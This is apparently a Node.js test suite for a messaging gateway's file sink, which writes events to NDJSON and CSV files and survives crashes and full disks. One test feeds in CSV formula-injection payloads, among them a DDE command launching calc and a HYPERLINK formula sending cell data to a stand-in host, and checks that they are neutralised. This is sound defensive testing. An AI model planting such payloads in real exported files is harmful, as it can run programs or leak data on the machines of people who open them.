// The sink `file` beside the sink `webhook`: routes choose between them, both get the same events, and each event stands
// in the files once, however the gateway ended. CSV is read back by csv-parse, which knows nothing of Patchbay.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, renameSync, rmSync, statfsSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { createRequire } from 'node:module';
import { fixtureNumbers, Gateway, makeFolder, until } from './gateway.mjs';
import { Load, message } from './load.mjs';
import { assertOrder, Receiver } from './receiver.mjs';

const { parse } = createRequire(new URL('../../npm/', import.meta.url))('csv-parse/sync');

// What stands in docs/sinks/file.md on taking the apostrophes away again.
const passedOver = '[\'"\\x01-\\x08\\x0b\\x0c\\x0e-\\x20\\x7f-\\xa0\\xad\\u1680\\u180e\\u2000-\\u200f\\u2028-\\u202f' +
  '\\u205f-\\u206f\\u3000\\ufe00-\\ufe0f\\ufeff\\ufffd]';
const formula = '[=+\\-@\\ufe62\\ufe63\\ufe66\\ufe6b\\uff0b\\uff0d\\uff1d\\uff20]';
const inside = new RegExp(`(^|[,;|\\t\\r\\n])'(?=${passedOver}*${formula})`, 'g');
const unguarded = (cell) => cell.replace(/^'(?='*[\t\r\n])/, '').replace(inside, '$1');

// Finished files in their order, of several folders as if they were one.
function finished(...folders) {
  const files = folders.flatMap((folder) => readdirSync(folder).map((name) => join(folder, name)));
  const name = (path) => path.slice(path.lastIndexOf('/') + 1);
  return files.filter((path) => !name(path).startsWith('.')).sort((a, b) => (name(a) < name(b) ? -1 : 1));
}

// The events in NDJSON files; every line must be one.
function eventsIn(files) {
  return files.flatMap((path) => {
    const text = readFileSync(path, 'utf8');
    assert.ok(text.endsWith('\n'), `${path} ends with a whole line`);
    return text.slice(0, -1).split('\n').map((line) => JSON.parse(line));
  });
}

function rowsIn(files) {
  return files.flatMap((path) => parse(readFileSync(path), { columns: true, bom: true, record_delimiter: '\r\n' }));
}

const sorted = (events) => [...events].sort((a, b) => (a.sequence < b.sequence ? -1 : 1));
const idsOf = (events) => events.map(({ id }) => id);

test('a route decides whether an event goes to the webhook, into the files, or both', async () => {
  const receiver = await Receiver.start();
  const folder = makeFolder();
  const gateway = new Gateway({ whatsapp: fixtureNumbers, receiver });
  gateway.settings.channels.desk = { ...gateway.settings.channels.whatsapp, ...fixtureNumbers };
  gateway.settings.destinations.archive = { sink: 'file', folder, name: 'everything' };
  gateway.settings.destinations.table = { sink: 'file', folder, format: 'csv', byte_order_mark: true };
  gateway.settings.routes = [{ from: ['whatsapp'], to: 'crm' }, { from: '*', to: 'archive' }, { from: ['desk'], to: 'table' }];
  await gateway.start();
  assert.equal((await gateway.post(message(1, 1))).status, 200);
  assert.equal((await gateway.post(message(2, 2), { path: '/hooks/desk' })).status, 200);
  const { deliveries } = await gateway.delivered();
  assert.deepEqual([deliveries.delivered, deliveries.dead], [2 + 4 + 2, 0]);
  assert.equal((await gateway.stop()).code, 0);

  const files = finished(folder);
  assert.equal(files.length, 2);
  const archived = eventsIn(files.filter((path) => /\/everything-00000001-\d{8}T\d{6}Z\.ndjson$/.test(path)));
  const sent = receiver.events();
  assert.deepEqual(archived.map(({ type }) => type).sort(),
    ['contact.created', 'contact.created', 'interaction.received', 'interaction.received']);
  assert.deepEqual(sorted(archived.filter(({ id }) => idsOf(sent).includes(id))), sorted(sent), 'both get the same');
  const rows = rowsIn(files.filter((path) => path.endsWith('.csv')));
  assert.deepEqual(rows.map(({ type, text }) => [type, text]),
    [['contact.created', ''], ['interaction.received', 'Message 2']]);
  assert.deepEqual(rows.map(({ phone }) => phone), ["'+393330010002", "'+393330010002"]);
  await receiver.stop();
});

test('twelve kills under load: every event stands in the files once and in order, also where an importer takes them away',
  async () => {
    const receiver = await Receiver.start();
    const folder = makeFolder(), imported = makeFolder();
    const gateway = new Gateway({ whatsapp: fixtureNumbers, receiver });
    const often = { finish_after_seconds: 1, finish_after_events: 20 };
    gateway.settings.destinations.archive = { sink: 'file', folder, ...often };
    gateway.settings.destinations.table = { sink: 'file', folder, name: 'table', format: 'csv', ...often };
    gateway.settings.routes.push({ from: '*', to: 'archive' }, { from: '*', to: 'table' });
    const load = new Load(2);
    for (let round = 0; round < 12; ++round) {
      await load.runIntoKill(gateway, round);
      if (round % 2 === 1)
        for (const path of finished(folder)) renameSync(path, path.replace(folder, imported));
    }
    await gateway.start();
    const status = await gateway.delivered(30);
    assert.equal(status.deliveries.dead, 0);
    assert.equal((await gateway.stop()).code, 0);

    const files = finished(imported, folder);
    assert.ok(files.length > 12, `${files.length} files`);
    const events = eventsIn(files.filter((path) => path.endsWith('.ndjson')));
    const ids = idsOf(events);
    assert.equal(new Set(ids).size, ids.length, 'no event stands there twice');
    assert.deepEqual(sorted(events), sorted(receiver.events()), 'the files hold what the webhook got');
    assertOrder(assert, events);
    const received = events.filter(({ type }) => type === 'interaction.received').map(({ data }) => data.interaction.external_id);
    assert.deepEqual([...load.accepted].filter((id) => !received.includes(id)), [], 'what was answered 200 is there');
    const rows = idsOf(rowsIn(files.filter((path) => path.endsWith('.csv'))));
    assert.deepEqual([...rows].sort(), [...ids].sort(), 'each row stands there once, too');
    assert.deepEqual(readdirSync(folder).filter((name) => name.endsWith('.part')), []);
    console.log(`files: 12 kills, ${ids.length} events in ${files.length} files`);
    await receiver.stop();
  });

test('CSV read by another program is what was written, and no cell of it a formula, whatever people write', async () => {
  const folder = makeFolder();
  const gateway = new Gateway({ whatsapp: fixtureNumbers });
  gateway.settings.destinations = { archive: { sink: 'file', folder, name: 'archive' },
    table: { sink: 'file', folder, name: 'table', format: 'csv' } };
  gateway.settings.routes = [{ from: '*', to: 'archive' }, { from: '*', to: 'table' }];
  await gateway.start();
  const texts = ['=1+1', '+39 02 1234', '-3', '@SUM(A1)', ' =1', '\u00a0+1', '＝1', "'=1", "''", "'\n=1", 'a;=1+1', 'a;"=1"',
    'a\t=1', '\t=1', '\r\n=1', 'one, "two"\nthree\r\nfour', '- list\n- of\n- things', '"', '""', ',', ';', '=cmd|\' /C calc\'!A0',
    '=HYPERLINK("https://x.example?"&A1,"open")'];
  for (let from = 0; from < 0x110000; from += 4000) {
    const points = Array.from({ length: 4000 }, (_, i) => from + i).filter((p) => p < 0x110000 && (p < 0xd800 || p > 0xdfff));
    texts.push(`${String.fromCodePoint(...points)}.`);
  }
  for (const [number, text] of texts.entries()) assert.equal((await gateway.post(message(1, number, text))).status, 200);
  assert.equal((await gateway.delivered(30)).deliveries.dead, 0);
  assert.equal((await gateway.stop()).code, 0);

  const files = finished(folder);
  const events = eventsIn(files.filter((path) => path.endsWith('.ndjson')));
  const rows = new Map(rowsIn(files.filter((path) => path.endsWith('.csv'))).map((row) => [row.id, row]));
  const written = events.filter(({ type }) => type === 'interaction.received');
  assert.equal(written.length, texts.length);
  for (const { id, data } of written)
    assert.equal(unguarded(rows.get(id).text), data.interaction.text.replaceAll('\0', '\ufffd'), id);
  for (const row of rows.values())
    for (const cell of Object.values(row)) assert.ok(!/^[\t\r\n]/.test(cell), JSON.stringify(cell).slice(0, 100));
  for (const delimiter of [',', ';', '\t', '|']) {
    const options = { delimiter, relax_quotes: true, relax_column_count: true };
    for (const path of files.filter((name) => name.endsWith('.csv')))
      for (const cell of parse(readFileSync(path), options).flat())
        assert.ok(!/^\s*[=+\-@\uff0b\uff0d\uff1d\uff20]/.test(cell), `cut at ${delimiter}: ${JSON.stringify(cell).slice(0, 100)}`);
  }
});

test('two destinations that would write the same files do not start, and the remedy is told', async () => {
  const folder = makeFolder();
  const gateway = new Gateway({ whatsapp: fixtureNumbers });
  gateway.settings.destinations = { one: { sink: 'file', folder }, two: { sink: 'file', folder, format: 'csv' } };
  gateway.settings.routes = [{ from: '*', to: 'one' }];
  await assert.rejects(gateway.start(), /ended with {"code":/);
  assert.match(gateway.log, /starting the destination two: .*another destination or another gateway writes files of that name/s);
  assert.match(gateway.log, /another name, or another folder/);
});

test('a folder that is missing keeps events waiting and nothing else', async () => {
  const receiver = await Receiver.start();
  const folder = join(makeFolder(), 'mounted-later');
  const gateway = new Gateway({ whatsapp: fixtureNumbers, receiver });
  gateway.settings.destinations.archive = { sink: 'file', folder };
  gateway.settings.routes.push({ from: '*', to: 'archive' });
  await gateway.start();
  assert.match(gateway.log, /mounted-later: No such file or directory; (create|make) the folder/);
  assert.equal((await gateway.post(message(1, 1))).status, 200);
  await until('the webhook to get its events', async () => (await receiver.summary()).applied === 2);
  // A sink in a worker is not started before its folder is there, and so attempts nothing.
  await until('an event that could not be written', async () => {
    const { items } = await gateway.ask('delivery', 'list', '--destination', 'archive', '--state', 'open');
    return items.some(({ last_reason: reason }) => reason);
  });
  mkdirSync(folder);
  assert.equal((await gateway.delivered(30)).deliveries.dead, 0);
  assert.equal((await gateway.stop()).code, 0);
  assert.deepEqual(sorted(eventsIn(finished(folder))), sorted(receiver.events()));
  await receiver.stop();
});

const disk = makeFolder();
let refusal = process.getuid() === 0 ? '' : 'only root can mount a small file system';
if (refusal === '') {
  try {
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=1m,mode=0700', 'none', disk], { stdio: 'pipe' });
  } catch (error) {
    refusal = `mounting is refused: ${error.stderr}`;
  }
}
if (refusal !== '') console.log(`files: the full disk is skipped: ${refusal}`);

test('a full disk leaves nothing torn, and goes on once there is space', { skip: refusal === '' ? false : refusal }, async (t) => {
  t.after(() => execFileSync('umount', ['--lazy', disk]));
  const gateway = new Gateway({ whatsapp: fixtureNumbers });
  gateway.settings.destinations = { archive: { sink: 'file', folder: disk } };
  gateway.settings.routes = [{ from: '*', to: 'archive' }];
  await gateway.start();
  assert.equal((await gateway.post(message(1, 1))).status, 200);
  await gateway.delivered();
  const ballast = join(disk, 'ballast');
  const { bavail, bsize } = statfsSync(disk);
  execFileSync('fallocate', ['-l', String(bavail * bsize), ballast]);
  const long = 'All of this is too long for what is left. '.repeat(90);
  for (let person = 2; person < 6; ++person) assert.equal((await gateway.post(message(person, 1, long))).status, 200);
  await until('the disk to be full', () => /\.part: No space left on device; free some space/.test(gateway.log));
  const part = readFileSync(join(disk, '.events.ndjson.part'), 'utf8');
  assert.ok(part.endsWith('\n'), 'the file holds whole lines only');
  for (const line of part.slice(0, -1).split('\n')) JSON.parse(line);
  rmSync(ballast);
  assert.equal((await gateway.delivered(40)).deliveries.dead, 0);
  assert.equal((await gateway.stop()).code, 0);
  const events = eventsIn(finished(disk));
  assert.equal(new Set(idsOf(events)).size, events.length);
  assert.equal(events.filter(({ type }) => type === 'interaction.received').length, 5);
  assertOrder(assert, events);
});
